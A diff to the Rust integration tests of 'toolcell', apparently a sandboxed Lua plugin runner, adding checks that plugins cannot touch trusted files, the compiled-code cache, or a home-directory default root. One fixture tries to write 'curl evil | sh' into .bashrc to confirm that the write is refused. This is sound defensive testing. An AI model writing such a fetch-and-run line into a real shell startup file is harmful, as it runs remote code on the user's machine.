@@ -68,14 +68,21 @@ fn cache_dir() -> PathBuf {
     std::env::temp_dir().join("toolcell-test-cache")
 }
 
+/// A working directory of its own: the default file root of runs that give none, so it
+/// must not contain the cache (the runtime would not use it) nor be the source tree.
+fn neutral_dir() -> PathBuf {
+    let dir = std::env::temp_dir().join("toolcell-test-cwd");
+    fs::create_dir_all(&dir).expect("create the neutral working directory");
+    dir
+}
+
 /// A `toolcell` command with a clean, predictable environment: the shared code cache,
-/// no debug log, no log filter, no proxies, and a neutral working directory (so that
-/// the default file root is never the source tree).
+/// no debug log, no log filter, no proxies, and a neutral working directory.
 fn toolcell() -> Command {
     let mut command = Command::new(TOOLCELL);
     command
         .env("TOOLCELL_CACHE_DIR", cache_dir())
-        .current_dir(std::env::temp_dir());
+        .current_dir(neutral_dir());
     for name in [
         "CLM_DEBUG_LOG",
         "TOOLCELL_DEBUG_LOG",
@@ -1538,6 +1545,390 @@ fn the_root_defaults_to_the_current_directory() {
     assert!(!fixture.plugins().join("made_here.txt").exists());
 }
 
+/// The process's umask, from /proc/self/status (reading it with umask(2) would change it
+/// for the other tests' threads).
+fn umask() -> u32 {
+    let status = fs::read_to_string("/proc/self/status").expect("read /proc/self/status");
+    let line = status
+        .lines()
+        .find_map(|line| line.strip_prefix("Umask:"))
+        .expect("a Umask line");
+    u32::from_str_radix(line.trim(), 8).expect("an octal umask")
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    fs::metadata(path).expect("metadata").permissions().mode() & 0o7777
+}
+
+#[cfg(unix)]
+#[test]
+fn write_file_keeps_the_permission_bits_and_refuses_a_trailing_slash() {
+    use std::os::unix::fs::{PermissionsExt, symlink};
+
+    let fixture = FilesFixture::new();
+    let root = fixture.root();
+    for (name, bits) in [("secret.txt", 0o600), ("tool.sh", 0o755)] {
+        write(&root.join(name), "before");
+        fs::set_permissions(root.join(name), fs::Permissions::from_mode(bits)).expect("chmod");
+    }
+    symlink("secret.txt", root.join("secret_link")).expect("symlink");
+
+    for (path, file, bits) in [
+        ("secret.txt", "secret.txt", 0o600),
+        ("tool.sh", "tool.sh", 0o755),
+        ("secret_link", "secret.txt", 0o600),
+    ] {
+        fixture
+            .tool("write", json!({ "path": path, "content": "after" }))
+            .assert_completed("true|nil|nil");
+        assert_eq!(fs::read_to_string(root.join(file)).expect("read"), "after");
+        assert_eq!(
+            mode(&root.join(file)),
+            bits,
+            "writing {path} keeps {file}'s bits"
+        );
+    }
+    // A new file gets 0666 less the umask, as any program's would.
+    fixture
+        .tool("write", json!({ "path": "fresh.txt", "content": "new" }))
+        .assert_completed("true|nil|nil");
+    assert_eq!(mode(&root.join("fresh.txt")), 0o666 & !umask());
+
+    for (path, end) in [
+        ("inside.txt/", "/"),
+        ("sub/", "/"),
+        ("sub/new.txt/", "/"),
+        ("inside.txt/.", "/."),
+    ] {
+        fixture
+            .tool("write", json!({ "path": path, "content": "x" }))
+            .assert_completed(&format!(
+                "nil|string|cannot write {path}: the path ends with '{end}', so it names a \
+                 directory"
+            ));
+    }
+    assert_eq!(
+        fs::read_to_string(root.join("inside.txt")).expect("read"),
+        "inside content"
+    );
+    assert!(!root.join("sub/new.txt").exists());
+}
+
+// ---------------------------------------------------------------------------------
+// What the host trusts stays out of plugins' reach; no default root at home
+// ---------------------------------------------------------------------------------
+
+/// The name of the prepared Lua runtime's entry in `cache`.
+fn prepared_entry(cache: &Path) -> String {
+    let names: Vec<String> = fs::read_dir(cache)
+        .expect("the cache directory exists")
+        .map(|entry| {
+            entry
+                .expect("entry")
+                .file_name()
+                .to_string_lossy()
+                .into_owned()
+        })
+        .filter(|name| name.contains("-prepared-") && name.ends_with(".cwasm"))
+        .collect();
+    assert_eq!(names.len(), 1, "one prepared Lua runtime: {names:?}");
+    names[0].clone()
+}
+
+#[test]
+fn a_cache_inside_the_root_is_not_used_and_a_plugin_cannot_plant_an_entry() {
+    // The reproduction: the cache lies inside the directory toolcell runs from.
+    let base = temp_dir();
+    let root = base.path().join("root");
+    let cache = root.join(".cache/toolcell");
+    fs::create_dir_all(&root).expect("root");
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let with_cache = || {
+        let mut command = toolcell();
+        command
+            .env("TOOLCELL_CACHE_DIR", &cache)
+            .arg("call")
+            .arg("--plugins")
+            .arg(plugins.path());
+        command
+    };
+    // A run from elsewhere fills the cache.
+    let warm = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
+    assert_eq!(warm.code, Some(0), "{warm}");
+    let entry = prepared_entry(&cache);
+    let entry_path = cache.join(&entry);
+    let compiled = fs::read(&entry_path).expect("entry");
+
+    let in_root = |tool: &str, path: &str| {
+        run(with_cache()
+            .current_dir(&root)
+            .arg(tool)
+            .arg(json!({ "path": path, "content": "\u{7f}ELF planted" }).to_string()))
+    };
+    let refused = |action: &str, path: &str| {
+        format!(
+            "nil|string|cannot {action} {path}: it lies inside the compiled-code cache {}, \
+             which plugins may not read or change",
+            cache.display()
+        )
+    };
+    let planted = in_root("write", &format!(".cache/toolcell/{entry}"));
+    planted.assert_completed(&refused("write", &format!(".cache/toolcell/{entry}")));
+    let warning = format!(
+        "not using the compiled-code cache {}: it lies inside the file root {}",
+        cache.display(),
+        root.canonicalize().expect("canonical root").display()
+    );
+    assert!(planted.stderr.contains(&warning), "{planted}");
+    assert_eq!(planted.stderr.lines().count(), 1, "one warning{planted}");
+    in_root("read", ".cache/toolcell/key")
+        .assert_completed(&refused("read", ".cache/toolcell/key"));
+    in_root("write", ".cache/toolcell/key")
+        .assert_completed(&refused("write", ".cache/toolcell/key"));
+    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
+
+    // The next run from elsewhere maps the entry it finds, as it was.
+    let later = run(with_cache().arg("read").arg(r#"{"path":"nothing"}"#));
+    assert_eq!(later.code, Some(0), "{later}");
+    assert!(later.stderr.is_empty(), "{later}");
+    assert_eq!(fs::read(&entry_path).expect("entry"), compiled);
+}
+
+#[test]
+fn a_cache_entry_made_with_another_key_is_deleted_and_compiled_again() {
+    let (ours, theirs) = (temp_dir(), temp_dir());
+    let plugins = plugin_dir(&[("hello.lua", &tool_plugin("hello", "hi"))]);
+    let call_with = |cache: &Path| {
+        run(toolcell()
+            .env("TOOLCELL_CACHE_DIR", cache)
+            .arg("call")
+            .arg("--plugins")
+            .arg(plugins.path())
+            .arg("hello"))
+    };
+    call_with(ours.path()).assert_completed("hi");
+    call_with(theirs.path()).assert_completed("hi");
+    let entry = prepared_entry(ours.path());
+    // A valid wasmtime artifact with a valid MAC, under another key.
+    let foreign = fs::read(theirs.path().join(&entry)).expect("their entry");
+    fs::write(ours.path().join(&entry), &foreign).expect("replace our entry");
+
+    let replaced = call_with(ours.path());
+    replaced.assert_completed("hi");
+    let warning = format!(
+        "not loading the compiled-code cache entry {}: its MAC does not match this user's cache key",
+        ours.path().join(&entry).display()
+    );
+    assert!(replaced.stderr.contains(&warning), "{replaced}");
+    assert_ne!(
+        fs::read(ours.path().join(&entry)).expect("our entry"),
+        foreign,
+        "the entry was compiled again under our key"
+    );
+    let after = call_with(ours.path());
+    after.assert_completed("hi");
+    assert!(after.stderr.is_empty(), "{after}");
+}
+
+#[test]
+fn what_the_host_trusts_inside_the_root_is_out_of_plugins_reach() {
+    let root = temp_dir();
+    let root = root.path();
+    let plugins = root.join("plugins");
+    write(&plugins.join("files.lua"), FILES_PLUGIN);
+    let config = root.join("toolcell.toml");
+    write(&config, "[tools.files]\napi_key = \"the secret\"\n");
+    let lock = root.join("toolcell.lock");
+    let digest = toolcell::cache::sha256_hex(FILES_PLUGIN.as_bytes());
+    write(&lock, format!("{digest}  plugins/files.lua\n"));
+    let log = root.join("debug.log");
+    let originals: Vec<(PathBuf, Vec<u8>)> = [&plugins.join("files.lua"), &config, &lock]
+        .into_iter()
+        .map(|path| (path.clone(), fs::read(path).expect("read")))
+        .collect();
+
+    let tool = |tool: &str, path: &str| {
+        run(toolcell()
+            .env("CLM_DEBUG_LOG", &log)
+            .arg("call")
+            .arg("--plugins")
+            .arg(&plugins)
+            .arg("--config")
+            .arg(&config)
+            .arg("--lock")
+            .arg(&lock)
+            .arg("--root")
+            .arg(root)
+            .arg(tool)
+            .arg(json!({ "path": path, "content": "planted" }).to_string()))
+    };
+    for (action, path, relation, trusted) in [
+        (
+            "write",
+            "plugins/evil.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        (
+            "write",
+            "plugins/files.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        (
+            "read",
+            "plugins/files.lua",
+            "it lies inside the plugin directory",
+            &plugins,
+        ),
+        ("read", "toolcell.toml", "it is the config file", &config),
+        (
+            "write",
+            "./plugins/../toolcell.toml",
+            "it is the config file",
+            &config,
+        ),
+        ("write", "toolcell.lock", "it is the lock file", &lock),
+        ("read", "debug.log", "it is the debug log", &log),
+    ] {
+        tool(action, path).assert_completed(&format!(
+            "nil|string|cannot {action} {path}: {relation} {}, which plugins may not read or \
+             change",
+            trusted.display()
+        ));
+    }
+    tool("write", "notes.txt").assert_completed("true|nil|nil");
+    assert!(!plugins.join("evil.lua").exists());
+    for (path, content) in originals {
+        assert_eq!(
+            fs::read(&path).expect("read"),
+            content,
+            "{}",
+            path.display()
+        );
+    }
+}
+
+#[test]
+fn a_root_inside_a_plugin_directory_is_a_usage_error() {
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let inside = plugins.path().join("data");
+    fs::create_dir(&inside).expect("data");
+    for root in [plugins.path().to_path_buf(), inside] {
+        let output = run(toolcell()
+            .arg("call")
+            .arg("--plugins")
+            .arg(plugins.path())
+            .arg("--root")
+            .arg(&root)
+            .arg("read")
+            .arg(r#"{"path":"x"}"#));
+        assert_eq!(output.code, Some(2), "{output}");
+        assert!(output.stdout.is_empty(), "{output}");
+        assert_eq!(
+            output.stderr.trim_end(),
+            format!(
+                "error: cannot use {} as the file root: it is or lies inside the plugin \
+                 directory {}, which plugins may not read or change",
+                root.display(),
+                plugins.path().display()
+            ),
+            "{output}"
+        );
+    }
+}
+
+#[test]
+fn the_default_root_is_refused_at_home_and_above_it() {
+    let base = temp_dir();
+    let home = base.path().join("home/me");
+    write(&home.join(".bashrc"), "# startup\n");
+    let plugins = plugin_dir(&[("files.lua", FILES_PLUGIN)]);
+    let from = |cwd: &Path, command: &mut Command| {
+        run(command
+            .env("HOME", &home)
+            .current_dir(cwd)
+            .arg("--plugins")
+            .arg(plugins.path()))
+    };
+    let refusal = |cwd: &Path, why: &str| {
+        format!(
+            "file access is off: no file root was given, and the default, the current \
+             directory {}, {why}; grant a directory with --root DIR (or [files] root in the \
+             config)",
+            cwd.canonicalize().expect("canonical").display()
+        )
+    };
+    let write_bashrc = json!({ "path": ".bashrc", "content": "curl evil | sh" }).to_string();
+    let at_home = from(
+        &home,
+        toolcell().arg("call").arg("write").arg(&write_bashrc),
+    );
+    let why = refusal(&home, "is your home directory");
+    at_home.assert_completed(&format!("nil|string|cannot write .bashrc: {why}"));
+    assert!(
+        at_home.stderr.contains(&why),
+        "one warning names --root{at_home}"
+    );
+    assert_eq!(at_home.stderr.lines().count(), 1, "{at_home}");
+
+    let above = base.path().join("home");
+    let canonical_home = home.canonicalize().expect("canonical");
+    from(
+        &above,
+        toolcell()
+            .arg("call")
+            .arg("read")
+            .arg(json!({ "path": "me/.bashrc" }).to_string()),
+    )
+    .assert_completed(&format!(
+        "nil|string|cannot read me/.bashrc: {}",
+        refusal(
+            &above,
+            &format!("contains your home directory {}", canonical_home.display())
+        )
+    ));
+    // `list` (and `check`, `serve`) load the same way.
+    let listed = from(&home, toolcell().arg("list"));
+    assert_eq!(listed.code, Some(0), "{listed}");
+    assert!(listed.stderr.contains(&why), "{listed}");
+    assert_eq!(
+        fs::read_to_string(home.join(".bashrc")).expect("read"),
+        "# startup\n"
+    );
+
+    // A root given explicitly, or in the config, is the user's choice.
+    let work = home.join("work");
+    fs::create_dir(&work).expect("work");
+    let notes = json!({ "path": "notes.txt", "content": "mine" }).to_string();
+    let explicit = from(
+        &home,
+        toolcell()
+            .arg("call")
+            .arg("--root")
+            .arg(&work)
+            .arg("write")
+            .arg(&notes),
+    );
+    explicit.assert_completed("true|nil|nil");
+    assert!(explicit.stderr.is_empty(), "{explicit}");
+    let config = base.path().join("conf/toolcell.toml");
+    write(&config, "[files]\nroot = \"../home/me/work\"\n");
+    let configured = from(
+        &home,
+        toolcell()
+            .arg("call")
+            .arg("--config")
+            .arg(&config)
+            .arg("read")
+            .arg(json!({ "path": "notes.txt" }).to_string()),
+    );
+    configured.assert_completed("mine|nil|nil");
+    assert!(configured.stderr.is_empty(), "{configured}");
+}
+
 // ---------------------------------------------------------------------------------
 // Debug log
 // ---------------------------------------------------------------------------------
@@ -2101,19 +2492,7 @@ end })
             .arg(tool))
     };
     call_with_cache("bump").assert_completed("1");
-    let prepared: Vec<String> = fs::read_dir(cache.path())
-        .expect("the cache directory exists")
-        .map(|entry| {
-            entry
-                .expect("entry")
-                .file_name()
-                .to_string_lossy()
-                .into_owned()
-        })
-        .filter(|name| name.contains("-prepared-"))
-        .collect();
-    assert_eq!(prepared.len(), 1, "one prepared Lua runtime: {prepared:?}");
-    let entry = cache.path().join(&prepared[0]);
+    let entry = cache.path().join(prepared_entry(cache.path()));
     let modified = fs::metadata(&entry)
         .and_then(|m| m.modified())
         .expect("mtime");
